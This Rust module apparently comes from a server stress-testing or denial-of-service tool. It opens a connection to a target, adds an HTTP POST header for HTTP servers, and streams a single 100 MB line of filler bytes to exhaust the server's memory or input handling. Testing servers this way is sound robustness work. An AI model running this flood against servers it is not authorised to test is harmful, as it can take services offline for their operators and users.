//! A line, or a body, of 100 MB.

use super::Attacker;
use crate::connection::discard;
use crate::target::ServerKind;
use crate::wire::post_head;
use std::io;

/// The length of the line.
const BYTES: usize = 100_000_000;

pub(super) async fn attack(attacker: &Attacker) -> io::Result<()> {
    let (reader, mut writer) = attacker.connect().await?.into_split();
    let reading = tokio::spawn(discard(reader));
    if attacker.target.kind() == ServerKind::Http {
        attacker.send(&mut writer, &post_head(&attacker.target, "check", BYTES)).await?;
    }
    let chunk = [b'U'; 50_000];
    for _ in 0..BYTES / chunk.len() {
        attacker.send(&mut writer, &chunk).await?;
    }
    attacker.send(&mut writer, b"\n").await?;
    reading.abort();
    Ok(())
}
